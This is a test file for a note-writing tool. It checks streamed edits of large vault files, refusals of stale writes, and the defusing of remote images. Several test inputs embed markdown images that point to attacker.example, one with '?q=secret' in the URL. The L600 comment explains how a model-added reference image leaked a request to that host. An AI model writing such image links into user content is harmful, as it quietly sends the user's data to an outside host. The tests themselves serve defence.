/**
 * Issue #13 (session 34): a range rewrite (`from`+`to`, `insert`) of a big project file (8 MiB or
 * more) read the whole text (~11× the file in memory) and diffed it whole. It now streams (core
 * `rewriteRangeAtomic`): the bytes, the result line and the audit entry are those of the in-memory
 * write (`applyWrite`, a whole-file `lineDiff`); the stale-write check holds as on the in-memory
 * path (a partial read's prefix, a whole read's digest); an omitted diff keeps the previous file in
 * the trash. Real files in a temp copy of the sample vault.
 * Spec: issue #13; docs/stale-writes.md; docs/audit-diffs.md; docs/atomic-writes.md.
 */
import { readdir, readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { type AuditEntry, applyWrite, WriteAudit, type WriteMode } from '@ma/core';
import { afterEach, describe, expect, it } from 'vitest';
import { STREAMED_APPEND_MIN_BYTES } from '../src/granular/write-projectfile.js';
import { formatWrite } from '../src/output/format-write.js';
import { hashTree } from '../src/test-support/hash-tree.js';
import { runTool } from '../src/test-support/run-tool.js';
import {
  BIG_FILE_TEST_MS,
  MEETINGS,
  sampleSession,
  type TestSession,
} from '../src/test-support/sample-vault.js';

let t: TestSession;
afterEach(async () => t?.cleanup());

const FOLDER = 'Projects/remote-control';
const REL = `${FOLDER}/big.md`;
/** About `bytes` of numbered lines joined by `eol`. */
const lines = (bytes: number, eol: string) =>
  Array.from({ length: Math.ceil(bytes / 26) }, (_, i) => `line ${i + 1}: aaaa bbbb cc`).join(eol);
const SIZE = STREAMED_APPEND_MIN_BYTES + 1024 * 1024;

type Args = { from?: number; to?: number; insert?: number; content: string };
const modeOf = (a: Args): WriteMode =>
  a.insert !== undefined
    ? { kind: 'insert', at: a.insert }
    : { kind: 'range', from: a.from ?? 0, to: a.to ?? 0 };

/** The audit entries the in-memory path gives the write `before` → `after` (auditWrite: a whole-file diff). */
function inMemoryEntries(before: string, after: string): AuditEntry[] {
  const audit = new WriteAudit();
  audit.record(REL, before, after);
  return audit.entries;
}

const temps = async () => (await readdir(path.join(t.root, FOLDER))).filter((n) => n.includes('ma-tmp'));

describe('issue #13: range rewrites of a big project file stream', { timeout: BIG_FILE_TEST_MS }, () => {
  const count = Math.ceil(SIZE / 26);
  const cases: [string, string, Args][] = [
    [
      'CRLF, no final newline, the range at the end',
      lines(SIZE, '\r\n'),
      { from: count - 1, to: count, content: 'x\ny\nz' },
    ],
    ['BOM, the range at the start', `\uFEFF${lines(SIZE, '\n')}\n`, { from: 1, to: 2, content: 'first' }],
    ['an insert after the last line', `${lines(SIZE, '\n')}\n`, { insert: count + 1, content: 'after' }],
    [
      'an empty replacement in the middle, CRLF',
      `${lines(SIZE, '\r\n')}\r\n`,
      { from: 1000, to: 1002, content: '' },
    ],
    [
      'an empty replacement of the last line, no final newline',
      lines(SIZE, '\n'),
      { from: count, to: count, content: '' },
    ],
  ];
  for (const [name, before, args] of cases)
    it(`the bytes, result line and audit entry of the in-memory write: ${name}`, async () => {
      t = await sampleSession(MEETINGS.functional);
      const abs = path.join(t.root, FOLDER, 'big.md');
      await writeFile(abs, before);
      const out = await runTool(t.session, 'write_projectfile', {
        project: 'remote-control',
        path: 'big.md',
        ...args,
      });
      const expected = applyWrite(before, modeOf(args), args.content);
      expect(out).toBe(formatWrite(REL, expected));
      expect((await readFile(abs, 'utf8')) === expected.text).toBe(true);
      expect(t.session.audit.entries).toEqual(inMemoryEntries(before, expected.text));
      expect(await temps()).toEqual([]);
    });

  it('a remote image in the new lines is defused as the in-memory write defuses it', async () => {
    t = await sampleSession(MEETINGS.functional);
    const abs = path.join(t.root, FOLDER, 'big.md');
    const before = `${lines(SIZE, '\n')}\n`;
    await writeFile(abs, before);
    const out = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      from: 5,
      to: 5,
      content: 'see ![x](https://attacker.example/p.png)',
    });
    expect(out).toMatch(/^replaced line 5 with 1 line in .*; defused 1 item/);
    const expected = applyWrite(
      before,
      { kind: 'range', from: 5, to: 5 },
      'see [x](https://attacker.example/p.png)',
    );
    expect((await readFile(abs, 'utf8')) === expected.text).toBe(true);
  });

  it('a partial read (lines 1–3): a change below them lets the write land, a change inside them refuses it', async () => {
    t = await sampleSession(MEETINGS.functional);
    const abs = path.join(t.root, FOLDER, 'big.md');
    const before = `${lines(SIZE, '\n')}\n`;
    await writeFile(abs, before);
    const shown = await runTool(t.session, 'read_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      from: 1,
      to: 3,
    });
    expect(shown).toContain('line 2: aaaa bbbb cc');
    // Another program adds a line at the end: the lines read keep their numbers.
    await writeFile(abs, `${before}added elsewhere\n`);
    const ok = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      from: 2,
      to: 2,
      content: 'two',
    });
    expect(ok).toBe(`replaced line 2 with 1 line in ${REL} (now ${count + 1} lines)`);
    // The session knows its own write: a second write needs no new read.
    const again = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      from: 3,
      to: 3,
      content: 'three',
    });
    expect(again).not.toMatch(/refused/);
    // Another program edits line 1: the write is refused and nothing is written.
    const now = await readFile(abs, 'utf8');
    await writeFile(abs, now.replace('line 1: aaaa', 'line 1: EDIT'));
    const tree = await hashTree(t.root);
    const stale = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      from: 2,
      to: 2,
      content: 'mine',
    });
    expect(stale).toMatch(
      /changed since you read it \(by another program\?\): now \d+ lines, was \d+ lines; nothing was written/,
    );
    expect(await hashTree(t.root)).toBe(tree);
    expect(await temps()).toEqual([]);
  });

  it('a whole read: any change refuses the write, as on the in-memory path; a range outside the file names its size', async () => {
    t = await sampleSession(MEETINGS.functional);
    const abs = path.join(t.root, FOLDER, 'big.md');
    const before = lines(SIZE, '\n'); // no final newline: text added after it is a change
    await writeFile(abs, before);
    // A read of the last line reaches the end of the file: the record is the whole text.
    await runTool(t.session, 'read_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      from: count,
      to: count,
    });
    await writeFile(abs, `${before}x`);
    const tree = await hashTree(t.root);
    const stale = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      from: 1,
      to: 1,
      content: 'a',
    });
    expect(stale).toMatch(/changed since you read it/);
    expect(await hashTree(t.root)).toBe(tree);
    await runTool(t.session, 'read_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      from: count,
      to: count,
    });
    const read = await hashTree(t.root); // the read recorded its line index in the state folder
    const outside = await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      from: count,
      to: count + 5,
      content: 'a',
    });
    expect(outside).toContain(`refused: line range outside the file (it has ${count} lines)`);
    expect(await hashTree(t.root)).toBe(read);
  });

  it('a diff too large to show keeps the previous file in the trash, as the in-memory write keeps its text', async () => {
    t = await sampleSession(MEETINGS.functional);
    const abs = path.join(t.root, FOLDER, 'big.md');
    const before = `${lines(SIZE, '\n')}\n`;
    await writeFile(abs, before);
    await runTool(t.session, 'write_projectfile', {
      project: 'remote-control',
      path: 'big.md',
      from: 10,
      to: 3009,
      content: 'one',
    });
    const [entry] = t.session.audit.entries;
    const [expected] = inMemoryEntries(
      before,
      applyWrite(before, { kind: 'range', from: 10, to: 3009 }, 'one').text,
    );
    expect(entry?.patch).toBeNull();
    expect(entry).toEqual({ ...expected, keptCopy: `.trash/${REL}` });
    expect((await readFile(path.join(t.root, '.trash', REL), 'utf8')) === before).toBe(true);
    expect(await temps()).toEqual([]);
  });
});

/*
 * L600: a write to a project note of 8 MiB or more streams and defuses the new lines within 64 KiB of
 * the note around them. A reference-style image the model added (`![a][r]`) whose definition sat
 * further up (`[r]: https://…`, the user's plain link's) was written as it was: Obsidian resolves a
 * definition anywhere in the note, so the image loaded from the web when the note was shown (the
 * in-memory path escapes the definition). Now such an image is defused (`\![a][r]`, a link) on the
 * streamed insert, range and append alike, and the answer says so. Real files in a temp copy of the
 * sample vault.
 */
const L600_HEAD = 'See [a][r].\n\n[r]: https://attacker.example/r.png?q=secret\n\n';

describe('L600: a streamed write defuses an image whose definition is far away', {
  timeout: BIG_FILE_TEST_MS,
}, () => {
  const middle = 200_000;
  const cases: [string, Record<string, unknown>, (before: string) => string][] = [
    [
      'insert',
      { insert: middle, content: '![a][r]' },
      (b) => b.replace(`line ${middle - 4}:`, `\\![a][r]\nline ${middle - 4}:`),
    ],
    [
      'range',
      { from: middle, to: middle, content: 'x ![R][]' },
      (b) => b.replace(/^line 199996: aaaa bbbb cc$/m, 'x \\![R][]'),
    ],
    ['append', { content: '![r]' }, (b) => `${b}\\![r]\n`],
  ];
  for (const [name, args, expected] of cases)
    it(`L600: ${name}`, async () => {
      t = await sampleSession(MEETINGS.functional);
      const abs = path.join(t.root, 'Projects/remote-control/big.md');
      const before = `${L600_HEAD}${lines(SIZE, '\n')}\n`;
      await writeFile(abs, before);
      const out = await runTool(t.session, 'write_projectfile', {
        project: 'remote-control',
        path: 'big.md',
        ...args,
      });
      expect(out).toMatch(/defused 1 item .*reference to a remote image/);
      expect(await readFile(abs, 'utf8')).toBe(expected(before));
    });
});
